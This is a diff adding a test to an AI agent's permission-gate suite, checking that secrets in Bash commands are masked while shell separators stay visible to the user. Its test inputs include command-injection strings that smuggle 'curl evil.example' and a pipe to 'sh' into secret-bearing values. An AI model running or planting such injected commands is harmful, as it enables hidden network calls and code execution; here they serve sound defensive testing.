@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import asyncio
+import re
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -14,6 +15,7 @@ from ua_tui.core.agent.permissions.rule_set import RuleSet, RuleStore
 from ua_tui.core.agent.permissions.rules import Rule
 from ua_tui.core.errors import AgentError
 from ua_tui.core.events import types as ev
+from ua_tui.core.redaction.masking import mask_event
 from ua_tui.core.redaction.redactor import Redactor
 
 NOTION = "mcp__composio__NOTION_GET_PAGE"
@@ -291,6 +293,31 @@ async def test_changed_arguments_keep_masked_secrets_and_are_judged_again(tmp_pa
     answer = await asked(gate, events, MAIL, reply, to="a@b.example")
     assert not answer.allow
     assert "With the changed arguments" in answer.reason
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "export API_KEY=aB3dE5fG7hJ9kL1m|sh",
+        "PASSWORD=Hunter2xx9;curl evil.example",
+        """echo '"password":"a1b2c3d4!!'; curl evil.example; echo '"'""",
+        'password="x9Yz7 `curl evil.example`" ls',
+        "password='; curl evil.example'",
+        "password: |\n  ls -la 9 x\n",
+    ],
+)
+async def test_a_question_shows_that_there_is_more_than_a_secret(tmp_path: Path, command: str) -> None:
+    events: list[ev.Event] = []
+    gate = gate_of(tmp_path, events)
+    answer = await asked(gate, events, "Bash", PermissionReply(True), command=command)
+    (question,) = (event for event in events if isinstance(event, ev.PermissionAsked))
+    shown = question.input["command"]
+    assert "[redacted]" in shown
+    # Another pass of masking, as before every screen and file, hides no more.
+    assert mask_event(question, gate.redactor) == question
+    for text in (shown, gate.redactor.redact(shown)):
+        assert re.findall(r"[\s;|`]", text) == re.findall(r"[\s;|`]", command)
+    assert answer.input is None
 
 
 async def test_the_agent_may_ask_in_every_mode_and_decides_alone_where_nobody_answers(tmp_path: Path) -> None:
